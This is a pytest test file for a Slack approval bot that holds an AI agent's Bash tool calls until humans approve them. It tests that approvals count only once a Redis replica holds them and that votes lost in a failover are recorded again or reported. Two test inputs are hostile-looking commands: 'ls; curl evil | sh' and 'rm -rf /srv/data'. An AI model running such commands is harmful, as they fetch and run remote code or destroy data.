"""``REDIS_WAIT_REPLICAS``: a decision counts once a replica holds it, and a click a failover
lost is recorded again or reported to its clicker (real primaries, replicas and Sentinels)."""

from __future__ import annotations

import asyncio
import logging

import pytest

from bot.agent.outcome import outcome_of
from bot.approvals import keys
from bot.approvals.model import Decision, NewRequest, request_id_for
from bot.approvals.policy import Action as RouteAction
from bot.approvals.policy import Route
from bot.approvals.replication import Replication
from bot.approvals.states import State
from bot.approvals.store import RequestStore
from bot.redis_client import Topology, connect
from bot.slack import confirming
from bot.slack.confirming import ClickConfirmer
from bot.slack.ids import Action
from tests.conftest import context, posted, within
from tests.fakes.redis_cluster import ReplicatedPair, SentinelSetup
from tests.fakes.redis_cluster import client as node_client

URL = "redis://sentinel-named/0"


async def test_a_request_is_confirmed_only_while_a_replica_acknowledges(replicated_pair: ReplicatedPair):
    client = connect(replicated_pair.url, name="tests")
    try:
        request_id = request_id_for("toolu_rep")
        replication = Replication(client, replicas=1)
        assert await replication.confirmed(request_id) is None  # no such request
        await RequestStore(client).create(NewRequest(id=request_id, tool_name="Bash", tool_input={}))
        held = await replication.confirmed(request_id)
        assert held is not None and held.state is State.PENDING and held.id == request_id
        assert await Replication(client, replicas=2).confirmed(request_id) is None  # one replica exists
        replicated_pair.processes.pause(replicated_pair.replica)
        try:
            assert await replication.confirmed(request_id) is None
        finally:
            replicated_pair.processes.resume(replicated_pair.replica)
        assert await replication.confirmed(request_id) is not None
    finally:
        await client.aclose()


async def test_the_agent_acts_on_the_decision_the_replicas_hold_not_on_an_earlier_read(
    replicated_pair: ReplicatedPair,
):
    """Read before a failover: approved with Alice's edit. The failover lost the edit, and Bob
    approved the input as asked: the tool runs what Bob approved, the record that survived."""
    client = connect(replicated_pair.url, name="tests")
    try:
        store = RequestStore(client, wait_replicas=1)
        request_id = request_id_for("toolu_stale_read")
        await store.create(NewRequest(id=request_id, tool_name="Bash", tool_input={"command": "ls"}))
        edit = {"command": "ls; curl evil | sh"}
        assert (
            await store.decide(
                request_id, Decision(State.APPROVED, actor="U_ALICE", revision=0, updated_input=edit)
            )
        ).won
        read_before_failover = await store.get(request_id)
        assert read_before_failover is not None and read_before_failover.proposed_input == edit
        # What the promoted replica holds: pending again, without the edit; then Bob approves.
        await client.hset(keys.request(request_id), mapping={"state": State.PENDING.value, "revision": "0"})
        await client.hdel(keys.request(request_id), "updated_input", "edited_by")
        assert (await store.decide(request_id, Decision(State.APPROVED, actor="U_BOB", revision=0))).won
        outcome = await outcome_of(store, read_before_failover)
        assert outcome.allowed and outcome.updated_input == {"command": "ls"}
        assert "U_BOB" in outcome.message
    finally:
        await client.aclose()


async def test_a_lost_click_is_never_recorded_on_another_request_asked_under_the_same_id(
    replicated_pair: ReplicatedPair, monkeypatch
):
    """The failover lost the request Alice saw and her click; the same id is then asked for another
    call. Her approval is not carried over to a request she never saw."""
    monkeypatch.setattr(confirming, "RECONFIRM_PAUSE", 0.2)
    client = connect(replicated_pair.url, name="tests")
    store = RequestStore(client, wait_replicas=1)
    confirmer = ClickConfirmer(store, None)
    try:
        request_id = request_id_for("toolu_reused")
        await store.create(NewRequest(id=request_id, tool_name="Bash", tool_input={"command": "ls"}))
        replicated_pair.processes.pause(replicated_pair.replica)
        try:
            approval = Decision(State.APPROVED, actor="U_ALICE", revision=0)
            transition = await store.decide(request_id, approval)
            await confirmer.confirm(request_id, approval, transition)  # unconfirmed: watched
            # What a failover losing both leaves, then the same id asked for another input.
            await client.delete(keys.request(request_id), keys.votes(request_id))
            other = NewRequest(id=request_id, tool_name="Bash", tool_input={"command": "rm -rf /srv/data"})
            await store.create(other)
        finally:
            replicated_pair.processes.resume(replicated_pair.replica)
        await asyncio.sleep(2)
        now = await store.get(request_id)
        assert now is not None and now.state is State.PENDING and now.votes == ()
    finally:
        await store.aclose()
        await client.aclose()


@pytest.mark.slow
async def test_an_approval_no_replica_holds_yet_does_not_run_the_tool(
    replicated_pair: ReplicatedPair, start_worker, make_approver, slack
):
    pair = replicated_pair
    worker = await start_worker(redis_url=pair.url, redis_wait_replicas=1)
    approver = await make_approver(redis_url=pair.url, redis_topology=Topology(wait_replicas=1))
    call = asyncio.create_task(approver.can_use_tool("Bash", {"command": "make"}, context("toolu_wait1")))
    message = await posted(slack)
    pair.processes.pause(pair.replica)
    try:
        await worker.click("U_ALICE", Action.APPROVE, message)
        await asyncio.sleep(3)
        # Approved on the primary alone: a crash now would take the approval along.
        assert not call.done(), "allowed on an approval no replica holds"
    finally:
        pair.processes.resume(pair.replica)
    async with within(20, "the agent never acted on the approval once a replica held it"):
        assert (await call).behavior == "allow"


async def _recorded(topology: Topology, tool_use_id: str) -> None:
    """Until the request's message is recorded and on the replica: the test is about the click."""
    client = connect(URL, name="tests", topology=topology)
    try:
        async with within(10, "the post was never recorded"):
            while not (
                (request := await RequestStore(client).get(request_id_for(tool_use_id))) and request.posted
            ):
                await asyncio.sleep(0.05)
        assert await client.execute_command("WAIT", 1, 5000) == 1
    finally:
        await client.aclose()


def _cut_replication(sentinels: SentinelSetup) -> None:
    """From now on the primary's writes reach no replica: the replica is paused, and the primary
    drops its link to it (with whatever it had not sent), so nothing waits in a socket either."""
    sentinels.processes.pause(sentinels.replica)
    with node_client(sentinels.master()) as primary:
        assert primary.client_kill_filter(_type="replica") == 1


async def _fail_over_losing_the_last_writes(sentinels: SentinelSetup) -> int:
    """Crash the primary while replication is cut, then let the Sentinels promote the replica,
    which lacks every write since the cut. Returns the crashed primary's port."""
    old = sentinels.master()
    sentinels.processes.kill(old)
    sentinels.processes.resume(sentinels.replica)
    async with within(30, "the Sentinels never promoted the replica"):
        while sentinels.master() == old:
            await asyncio.sleep(0.1)
    return old


def _sentinel_settings(sentinels: SentinelSetup) -> dict:
    return {
        "redis_url": URL,
        "redis_sentinels": ",".join(f"{h}:{p}" for h, p in sentinels.addresses),
        "redis_sentinel_master": sentinels.MASTER,
        "redis_wait_replicas": 1,
    }


@pytest.mark.slow
async def test_a_click_a_failover_lost_is_recorded_again_and_the_tool_runs_once_a_replica_holds_it(
    sentinels: SentinelSetup, start_worker, make_approver, slack, caplog
):
    caplog.set_level(logging.INFO, logger="bot.slack.confirming")
    settings = _sentinel_settings(sentinels)
    worker = await start_worker(**settings)
    topology = Topology(sentinels=sentinels.addresses, sentinel_master=sentinels.MASTER, wait_replicas=1)
    approver = await make_approver(redis_url=URL, redis_topology=topology)
    call = asyncio.create_task(approver.can_use_tool("Bash", {"command": "make"}, context("toolu_lost")))
    message = await posted(slack)
    await _recorded(topology, "toolu_lost")

    _cut_replication(sentinels)
    await worker.click("U_ALICE", Action.APPROVE, message)  # written on the primary only
    await asyncio.sleep(1)
    assert not call.done()
    old = await _fail_over_losing_the_last_writes(sentinels)
    # The promoted replica never saw the click; the worker records it again. With no replica
    # left to hold it, the agent still waits: nothing runs on a write the next crash could lose.
    await asyncio.sleep(3)
    assert not call.done(), "allowed on an approval no replica holds"
    sentinels.processes.restart(old)  # back, as the new primary's replica
    async with within(60, "the re-recorded approval never reached the agent"):
        result = await call
    assert result.behavior == "allow"
    said = [r.getMessage() for r in caplog.records]
    assert any("lost in a failover, recorded again" in line for line in said), "the click was not lost"
    assert not [e for e in slack.ephemerals if "lost" in e.text], "the clicker was told it was lost"


@pytest.mark.slow
async def test_a_click_a_failover_lost_that_cannot_count_any_more_is_reported_to_its_clicker(
    sentinels: SentinelSetup, start_worker, make_approver, slack, monkeypatch
):
    monkeypatch.setattr(confirming, "RECONFIRM_PAUSE", 4.0)  # the deny below lands first
    worker = await start_worker(**_sentinel_settings(sentinels))
    topology = Topology(sentinels=sentinels.addresses, sentinel_master=sentinels.MASTER, wait_replicas=1)
    approver = await make_approver(redis_url=URL, redis_topology=topology)
    call = asyncio.create_task(approver.can_use_tool("Bash", {"command": "make"}, context("toolu_told")))
    message = await posted(slack)
    await _recorded(topology, "toolu_told")

    _cut_replication(sentinels)
    await worker.click("U_ALICE", Action.APPROVE, message)
    await _fail_over_losing_the_last_writes(sentinels)
    # On the promoted replica the request is pending, and Bob denies it before Alice's click is retried.
    bob = connect(URL, name="tests", topology=topology)
    try:
        denial = Decision(State.DENIED, actor="U_BOB", reason="not today", revision=0)
        assert (await RequestStore(bob).decide(request_id_for("toolu_told"), denial)).won
    finally:
        await bob.aclose()
    async with within(30, "Alice was never told her approval was lost"):
        while not [e for e in slack.ephemerals if e.user == "U_ALICE" and "lost" in e.text]:
            await asyncio.sleep(0.1)
    told = [e.text for e in slack.ephemerals if e.user == "U_ALICE" and "lost" in e.text]
    lost = "Your decision on this request was lost when the approvals database failed over;"
    assert told == [f"{lost} meanwhile the request ended (denied) without it."]
    assert (await asyncio.wait_for(call, 10)).behavior == "deny"


async def test_a_vote_lost_with_the_modify_before_it_is_not_taken_for_an_older_vote(
    replicated_pair: ReplicatedPair, monkeypatch, caplog
):
    """Alice voted on the input as asked (replicated); Bob's Modify and Alice's vote on it were
    lost. Her old vote is no confirmation of the new one: she is told hers did not count."""
    caplog.set_level(logging.INFO, logger="bot.slack.confirming")
    monkeypatch.setattr(confirming, "RECONFIRM_PAUSE", 0.2)
    client = connect(replicated_pair.url, name="tests")
    store = RequestStore(client, wait_replicas=1)
    confirmer = ClickConfirmer(store, None)
    try:
        request_id = request_id_for("toolu_votes")
        await store.create(NewRequest(id=request_id, tool_name="Bash", tool_input={"command": "make"}))
        route = Route(rule="three", action=RouteAction.ASK, required=3)
        await store.route(request_id, route)
        first = await store.decide(request_id, Decision(State.APPROVED, actor="U_ALICE", revision=0))
        assert first.votes is not None
        assert await client.execute_command("WAIT", 1, 5000) == 1
        before = await client.hgetall(keys.request(request_id)), await client.hgetall(keys.votes(request_id))
        edit = {"command": "make -j4"}
        modify = Decision(State.APPROVED, actor="U_BOB", revision=0, updated_input=edit)
        assert (await store.decide(request_id, modify)).votes is not None  # revision 1, Bob's vote
        replicated_pair.processes.pause(replicated_pair.replica)
        try:
            again = Decision(State.APPROVED, actor="U_ALICE", revision=1)
            transition = await store.decide(request_id, again)
            assert transition.votes == (2, 3)  # Bob's and hers, on revision 1
            await confirmer.confirm(request_id, again, transition)  # unconfirmed: watched
            # What the promoted replica holds: the request before Bob's Modify, Alice's first vote.
            async with client.pipeline(transaction=True) as pipe:
                pipe.delete(keys.request(request_id), keys.votes(request_id))
                pipe.hset(keys.request(request_id), mapping=before[0])
                pipe.hset(keys.votes(request_id), mapping=before[1])
                await pipe.execute()
        finally:
            replicated_pair.processes.resume(replicated_pair.replica)
        async with within(10, "Alice was never told her vote was lost"):
            while not any("was lost in a Redis failover" in r.getMessage() for r in caplog.records):
                await asyncio.sleep(0.1)
        now = await store.get(request_id)
        assert now is not None and now.state is State.PENDING and now.revision == 0
        assert [vote.user for vote in now.votes] == ["U_ALICE"]  # her first vote, on the input as asked
    finally:
        await store.aclose()
        await client.aclose()
